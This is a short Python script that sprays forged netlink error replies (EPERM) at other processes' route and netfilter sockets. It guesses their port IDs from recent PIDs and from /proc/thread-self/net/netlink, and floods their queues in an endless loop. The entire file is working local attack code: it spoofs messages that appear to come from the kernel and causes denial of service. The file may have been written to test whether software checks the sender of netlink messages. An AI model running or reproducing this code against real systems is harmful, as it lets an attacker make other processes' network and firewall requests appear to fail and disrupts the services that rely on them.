"""Sends forged netlink errors to each socket that the processes of this moment can have, for as long as it runs.

The argument is a file that it makes when a socket of its own has believed one.
"""

import socket
import struct
import sys

ERRORS = b"".join(
    # struct nlmsghdr, and struct nlmsgerr with EPERM and the header of the request.
    struct.pack("=IHHIIi", 36, 2, 0, number, 0, -1) + struct.pack("=IHHII", 16, 16, 0, number, 0)
    for number in range(400)
)
PROTOCOLS = (socket.NETLINK_ROUTE, 12)  # 12: NETLINK_NETFILTER


def opened(protocol):
    opened = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, protocol)
    opened.bind((0, 0))
    return opened


def send(sender, port):
    try:
        sender.sendto(ERRORS, socket.MSG_DONTWAIT, (port, 0))
    except OSError:
        pass  # No such socket, or its queue is full.


def ports():
    # The kernel gives a socket the id of its process, if no other socket has it.
    with open("/proc/loadavg") as file:
        newest = int(file.read().split()[-1])
    yield from range(max(newest - 8, 1), newest + 24)
    with open("/proc/thread-self/net/netlink") as file:
        for line in list(file)[1:]:
            # So often that the queue of the socket is full.
            yield from [int(line.split()[2])] * 20


def main():
    senders = [opened(protocol) for protocol in PROTOCOLS]
    own = {sender.getsockname()[0] for sender in senders}
    for sender, protocol in zip(senders, PROTOCOLS):
        victim = opened(protocol)
        send(sender, victim.getsockname()[0])
        assert victim.recv(65536, socket.MSG_DONTWAIT) == ERRORS
        victim.close()
    open(sys.argv[1], "w").close()
    while True:
        for port in ports():
            if port and port not in own:
                for sender in senders:
                    send(sender, port)


if __name__ == "__main__":
    main()
